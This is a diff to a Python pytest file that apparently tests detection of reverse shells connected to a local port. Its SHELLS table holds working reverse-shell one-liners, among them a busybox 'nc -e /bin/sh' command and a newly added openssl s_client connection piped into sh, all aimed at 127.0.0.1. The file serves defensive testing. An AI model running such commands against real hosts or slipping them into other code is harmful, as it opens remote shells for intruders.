@@ -40,6 +40,7 @@ SHELLS = {
     "busybox": (["busybox", "nc", "127.0.0.1", "{port}", "-e", "/bin/sh"], "socket"),
     "node": (["node", "-e", NODE], "relay"),
     "openssl": (["sh", "-c", FIFO], "fifo"),
+    "openssl into a pipe": (["sh", "-c", "openssl s_client -quiet -connect 127.0.0.1:{port} 2>&1 | sh"], "pipe"),
 }
 
 
@@ -83,7 +84,7 @@ def rows(port: int) -> list[ConnectedShell]:
 @pytest.mark.parametrize("name", SHELLS)
 def test_a_shell_that_somebody_leads(name: str, port: int, start: Start) -> None:
     argv, how = SHELLS[name]
-    if shutil.which(argv[0]) is None or (how == "fifo" and shutil.which("openssl") is None):
+    if shutil.which(argv[0]) is None or ("openssl" in name and shutil.which("openssl") is None):
         pytest.skip(f"no {argv[0]}")
     start([word.replace("{port}", str(port)) for word in argv])
     found = wait_until(lambda: [row for row in rows(port) if row.how == how and name_of(row) in LED], "the shell")
